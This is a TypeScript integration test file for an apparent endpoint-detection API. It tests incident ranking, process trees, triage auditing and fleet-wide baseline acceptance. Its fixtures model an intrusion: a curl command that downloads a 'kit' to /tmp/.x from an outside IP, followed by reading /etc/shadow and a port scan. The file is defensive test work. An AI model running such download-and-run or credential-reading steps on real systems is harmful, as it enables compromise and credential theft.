import { randomUUID } from 'node:crypto';
import { Client as PgClient } from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freshDatabase } from '@vigil/testing';
import { Client, codeOf, startApiOn, type TestApi } from './harness';

const PW = 'marble-falcon-36-river';
const [EP1, EP2, EP3] = [randomUUID(), randomUUID(), randomUUID()];
const T0 = Date.now() - 3_600_000;
const at = (s: number): Date => new Date(T0 + s * 1_000);

interface IncidentJson {
  id: string;
  severity: string;
  title: string;
  alertCount: number;
  techniques: string[];
  rank: number;
  status: string;
  assignee: string | null;
}

describe('incidents, learning progress and fleet-wide acceptance (real PostgreSQL)', () => {
  let db: Awaited<ReturnType<typeof freshDatabase>>;
  let pg: PgClient;
  let api: TestApi;
  let analyst: Client;

  /** An alert as the analyzer writes it. */
  const alert = async (a: { id: string; ep: string; t: number; program: string; kind: string; severity: string; mitre?: string; incident?: string; pid?: number; ppid?: number; acceptance?: unknown }): Promise<void> => {
    await pg.query(
      `insert into alerts (id, time, endpoint_id, batch_id, program, program_key, pid, ppid, uid, comm, ancestry, kind, detector, group_key,
                           severity, score, title, mitre, evidence, acceptance, last_seen, incident_id)
       values ($1, $2, $3, 'b', $4, $4, $5, $6, 0, 'x', '{/usr/bin/bash}', $7, 'exec', 'g', $8, 50, $9, $10, 'evidence', $11, $2, $12)`,
      [a.id, at(a.t), a.ep, a.program, a.pid ?? 601, a.ppid ?? 4242, a.kind, a.severity, `${a.program} ${a.kind}`, a.mitre ?? null, a.acceptance === undefined ? null : JSON.stringify(a.acceptance), a.incident ?? null],
    );
  };

  beforeAll(async () => {
    db = await freshDatabase('vigil_api_test');
    pg = new PgClient({ connectionString: db.url });
    await pg.connect();
    api = await startApiOn(db.url);
    await api.createUser('ana', 'analyst', PW);
    analyst = new Client(api.baseUrl);
    expect((await analyst.login('ana', PW)).status).toBe(200);

    const key = (n: number): Buffer => Buffer.alloc(32, n);
    await pg.query(`insert into endpoints (id, name, key_hash) values ($1, 'web-1', $4), ($2, 'web-2', $5), ($3, 'web-3', $6)`, [EP1, EP2, EP3, key(1), key(2), key(3)]);
    // EP1 is through its learning period; EP2 a quarter through (its latest batch); EP3 has sent nothing
    await pg.query(
      `insert into endpoint_learning (endpoint_id, learning_from, learning_until, last_batch, state) values
         ($1, $3, $4, $5, '{}'), ($2, $3, $4, $6, '{}')`,
      [EP1, EP2, at(0), at(400), at(900), at(100)],
    );
    await pg.query(
      `insert into program_baselines (endpoint_id, program_key, program, phase, runs, first_seen, last_seen, summary, state) values
         ($1, '/usr/bin/date', '/usr/bin/date', 'active', 40, $4, $5, $6, '{}'),
         ($2, '/usr/bin/date', '/usr/bin/date', 'active', 30, $4, $5, '{}', '{}'),
         ($3, '/usr/bin/date#abcdabcdabcdabcd', '/usr/bin/date', 'learning', 3, $4, $5, $7, '{}')`,
      [EP1, EP2, EP3, at(0), at(900), JSON.stringify({ learning: { origin: 'endpoint', from: T0, until: T0 + 400_000, progress: 1 } }), JSON.stringify({ learning: { origin: 'update', from: T0 + 800_000, until: T0 + 1_000_000, progress: 0.5 } })],
    );
    // Incident 1 on EP1: a dropped program (seen nowhere else) reading /etc/shadow, then a scan from its shell
    await alert({ id: 'a-kit-1', ep: EP1, t: 500, program: '/tmp/.x/kit', kind: 'new-program', severity: 'high', mitre: 'T1105', incident: 'inc-1' });
    await alert({ id: 'a-kit-2', ep: EP1, t: 500, program: '/tmp/.x/kit', kind: 'credential-file-read', severity: 'high', mitre: 'T1003.008', incident: 'inc-1' });
    await alert({ id: 'a-scan', ep: EP1, t: 530, program: '/usr/bin/bash', kind: 'port-scan', severity: 'high', mitre: 'T1046', incident: 'inc-1', pid: 21_000 });
    // Incident 2 on EP2 (newer, same severity): something every endpoint of the fleet does
    await alert({ id: 'a-common', ep: EP2, t: 800, program: '/usr/bin/date', kind: 'novel-child-program', severity: 'high', incident: 'inc-2', pid: 900, ppid: 1 });
    for (const [i, ep] of [EP1, EP3].entries()) await alert({ id: `a-common-${i}`, ep, t: 700, program: '/usr/bin/date', kind: 'novel-child-program', severity: 'high' });
    // A recurring novelty (every run of date opens "new" files) and a rule alert
    await alert({ id: 'a-date', ep: EP1, t: 600, program: '/usr/bin/date', kind: 'novel-file-access', severity: 'low', acceptance: { files: ['read /usr/share/zoneinfo/<f>'] } });
    await alert({ id: 'a-rule', ep: EP1, t: 600, program: '/usr/bin/date', kind: 'credential-file-read', severity: 'high' });
    // the incidents as the analyzer derives them from their alerts
    await pg.query(
      `insert into incidents (id, endpoint_id, first_seen, last_seen, severity, title, alert_count, techniques, programs, root_pid, root_program) values
         ('inc-1', $1, $3, $4, 'high', 'first run of kit', 3, '{T1003.008,T1046,T1105}', '{/tmp/.x/kit,/usr/bin/bash}', 601, '/tmp/.x/kit'),
         ('inc-2', $2, $5, $5, 'high', 'date started something', 1, '{}', '{/usr/bin/date}', 900, '/usr/bin/date')`,
      [EP1, EP2, at(500), at(530), at(800)],
    );
    await pg.query(
      `insert into processes (endpoint_id, boot_id, pid, start_time_ns, ppid, exe, comm, uid, argv, first_seen, last_seen) values
         ($1, 'b', 4242, 1, 4000, '/usr/bin/bash', 'bash', 1000, '{-bash}', $2, $3),
         ($1, 'b', 600, 2, 4242, '/usr/bin/curl', 'curl', 1000, '{curl,-o,/tmp/.x/kit,http://203.0.113.9/k}', $2, $3),
         ($1, 'b', 601, 3, 4242, '/tmp/.x/kit', 'kit', 1000, '{./kit}', $2, $3),
         ($1, 'b', 777, 4, 1, '/usr/sbin/cron', 'cron', 0, null, $2, $3)`,
      [EP1, at(490), at(540)],
    );
  });
  afterAll(async () => {
    await api?.app.close();
    await pg?.end();
    await db?.drop();
  });

  it('GET /api/endpoints shows how far each endpoint is through its learning period', async () => {
    const res = await analyst.request('GET', '/api/endpoints');
    expect(res.status).toBe(200);
    const byName = new Map((res.json as { name: string; learning: unknown }[]).map((e) => [e.name, e.learning]));
    expect(byName.get('web-1')).toEqual({ from: at(0).toISOString(), until: at(400).toISOString(), lastBatch: at(900).toISOString(), progress: 1, learning: false });
    expect(byName.get('web-2')).toMatchObject({ progress: 0.25, learning: true });
    expect(byName.get('web-3')).toBeNull();
    expect(((await analyst.request('GET', `/api/endpoints/${EP2}`)).json as { learning: { progress: number } }).learning.progress).toBe(0.25);
  });

  it('the per-program view shows why and how far each program learns', async () => {
    const res = await analyst.request('GET', '/api/baselines?program=date');
    const rows = res.json as { endpointId: string; learning: unknown }[];
    expect(rows.find((r) => r.endpointId === EP1)!.learning).toEqual({ origin: 'endpoint', from: at(0).toISOString(), until: at(400).toISOString(), progress: 1 });
    expect(rows.find((r) => r.endpointId === EP3)!.learning).toMatchObject({ origin: 'update', progress: 0.5 });
    expect(rows.find((r) => r.endpointId === EP2)!.learning).toBeNull(); // a checkpoint from before the summary kept it
  });

  it('GET /api/incidents ranks by severity × rarity (the rare dropped program above what the whole fleet does), or by time', async () => {
    const ranked = (await analyst.request('GET', '/api/incidents')).json as IncidentJson[];
    expect(ranked.map((i) => i.id)).toEqual(['inc-1', 'inc-2']);
    expect(ranked[0]).toMatchObject({ severity: 'high', alertCount: 3, techniques: ['T1003.008', 'T1046', 'T1105'], rank: 75, status: 'open' });
    // date's novel child: the 2 other endpoints of 3 did it too → rarity 1/3
    expect(ranked[1]!.rank).toBe(25);
    const byTime = (await analyst.request('GET', '/api/incidents?sort=time')).json as IncidentJson[];
    expect(byTime.map((i) => i.id)).toEqual(['inc-2', 'inc-1']);
    expect(((await analyst.request('GET', `/api/incidents?endpointId=${EP2}`)).json as IncidentJson[]).map((i) => i.id)).toEqual(['inc-2']);
    expect((await analyst.request('GET', '/api/incidents?sort=severity')).status).toBe(400);
  });

  it('GET /api/incidents/:id tells one story: timeline, process tree, techniques', async () => {
    const res = await analyst.request('GET', '/api/incidents/inc-1');
    expect(res.status).toBe(200);
    const d = res.json as IncidentJson & { alerts: { id: string; kind: string; endpointsWithSame: number }[]; processes: { pid: number; ppid: number; exe: string }[] };
    expect(d.alerts.map((a) => a.id)).toEqual(['a-kit-1', 'a-kit-2', 'a-scan']);
    expect(d.alerts[0]!.endpointsWithSame).toBe(1);
    // the alerts' processes, their parent shell and its other children (curl wrote the kit); not cron
    expect(d.processes.map((p) => [p.pid, p.ppid, p.exe]).sort((a, b) => Number(a[0]) - Number(b[0]))).toEqual([
      [600, 4242, '/usr/bin/curl'],
      [601, 4242, '/tmp/.x/kit'],
      [4242, 4000, '/usr/bin/bash'],
    ]);
    expect(codeOf((await analyst.request('GET', '/api/incidents/nope')).json)).toBe('NOT_FOUND');
  });

  it('PATCH /api/incidents/:id triages the incident and every alert of it, audited', async () => {
    const res = await analyst.request('PATCH', '/api/incidents/inc-1', { status: 'resolved', assignee: 'ana', note: 'red-team exercise' });
    expect(res.status).toBe(200);
    expect(res.json).toMatchObject({ id: 'inc-1', status: 'resolved', assignee: 'ana' });
    const alerts = (await pg.query(`select id, status, assignee from alerts where incident_id = 'inc-1' order by id`)).rows;
    expect(alerts).toEqual([
      { id: 'a-kit-1', status: 'resolved', assignee: 'ana' },
      { id: 'a-kit-2', status: 'resolved', assignee: 'ana' },
      { id: 'a-scan', status: 'resolved', assignee: 'ana' },
    ]);
    expect((await pg.query(`select status from alerts where id = 'a-common'`)).rows[0].status).toBe('open');
    const audit = (await pg.query(`select action, target, details from audit_log where action in ('incident.update', 'alert.status_change') order by id`)).rows;
    expect(audit.filter((a) => a.action === 'alert.status_change').map((a) => a.target).sort()).toEqual(['a-kit-1', 'a-kit-2', 'a-scan']);
    expect(audit.find((a) => a.action === 'incident.update')).toMatchObject({ target: 'inc-1', details: { alerts: 3, from: 'open', to: 'resolved', assignee: 'ana' } });
    const notes = (await analyst.request('GET', '/api/alerts/a-scan')).json as { notes: { text: string }[]; incidentId: string };
    expect(notes.notes.map((n) => n.text)).toEqual(['red-team exercise']);
    expect(notes.incidentId).toBe('inc-1');
    expect((await analyst.request('PATCH', '/api/incidents/nope', { status: 'resolved' })).status).toBe(404);
    expect((await analyst.request('PATCH', '/api/incidents/inc-1', { status: 'gone' })).status).toBe(400);
    expect((await new Client(api.baseUrl).request('GET', '/api/incidents')).status).toBe(401);
  });

  it('accepts a recurring novelty fleet-wide in one step: one acceptance per endpoint running the program, audited once', async () => {
    const res = await analyst.request('POST', '/api/alerts/a-date/accept-baseline?scope=fleet');
    expect(res.status).toBe(202);
    expect(res.json).toMatchObject({ endpoints: 3 });
    const rows = (await pg.query(`select endpoint_id, program_key, accepted_by from baseline_acceptances where alert_id = 'a-date' order by program_key, endpoint_id`)).rows;
    expect(rows.map((r) => [r.endpoint_id, r.program_key, r.accepted_by])).toEqual(
      [
        [EP1, '/usr/bin/date', 'ana'],
        [EP2, '/usr/bin/date', 'ana'],
        [EP3, '/usr/bin/date#abcdabcdabcdabcd', 'ana'],
      ].sort((a, b) => a[1]!.localeCompare(b[1]!) || a[0]!.localeCompare(b[0]!)),
    );
    const audit = (await pg.query(`select details from audit_log where action = 'baseline.accept' and target = 'a-date'`)).rows;
    expect(audit).toHaveLength(1);
    expect(audit[0].details).toMatchObject({ scope: 'fleet', endpoints: 3, program: '/usr/bin/date' });
    // pending ones are not queued twice; a rule alert has nothing to accept
    expect((await analyst.request('POST', '/api/alerts/a-date/accept-baseline?scope=fleet')).status).toBe(409);
    expect(codeOf((await analyst.request('POST', '/api/alerts/a-rule/accept-baseline?scope=fleet')).json)).toBe('CONFLICT');
    expect((await analyst.request('POST', '/api/alerts/a-date/accept-baseline?scope=planet')).status).toBe(400);
  });

  it('accepts a process tree\'s alert fleet-wide for each program it folded (as the analyzer writes it: acceptance per program)', async () => {
    await pg.query(
      `insert into program_baselines (endpoint_id, program_key, program, phase, runs, first_seen, last_seen, summary, state) values
         ($1, '/usr/bin/tree-sort', '/usr/bin/tree-sort', 'active', 40, $3, $4, '{}', '{}'),
         ($2, '/usr/bin/tree-sort#abcdabcdabcdabcd', '/usr/bin/tree-sort', 'active', 9, $3, $4, '{}', '{}'),
         ($1, '/usr/bin/tree-shell', '/usr/bin/tree-shell', 'active', 40, $3, $4, '{}', '{}')`,
      [EP1, EP2, at(0), at(900)],
    );
    const byProgram = { '/usr/bin/tree-shell': { execChildren: ['/usr/bin/tree-sort'] }, '/usr/bin/tree-sort': { files: ['read /srv/<f>'] } };
    await alert({ id: 'a-tree', ep: EP1, t: 650, program: '/usr/bin/tree-shell', kind: 'novel-child-program', severity: 'low', acceptance: { byProgram } });
    const res = await analyst.request('POST', '/api/alerts/a-tree/accept-baseline?scope=fleet');
    expect(res.status).toBe(202);
    expect(res.json).toMatchObject({ endpoints: 3 });
    const rows = (await pg.query(`select endpoint_id, program, program_key from baseline_acceptances where alert_id = 'a-tree' order by program_key, endpoint_id`)).rows;
    expect(rows.map((r) => [r.endpoint_id, r.program_key])).toEqual([
      [EP1, '/usr/bin/tree-shell'],
      [EP1, '/usr/bin/tree-sort'],
      [EP2, '/usr/bin/tree-sort#abcdabcdabcdabcd'],
    ]);
    const audit = (await pg.query(`select details from audit_log where action = 'baseline.accept' and target = 'a-tree'`)).rows;
    expect(audit[0].details).toMatchObject({ scope: 'fleet', endpoints: 3, programs: ['/usr/bin/tree-shell', '/usr/bin/tree-sort'] });
  });
});
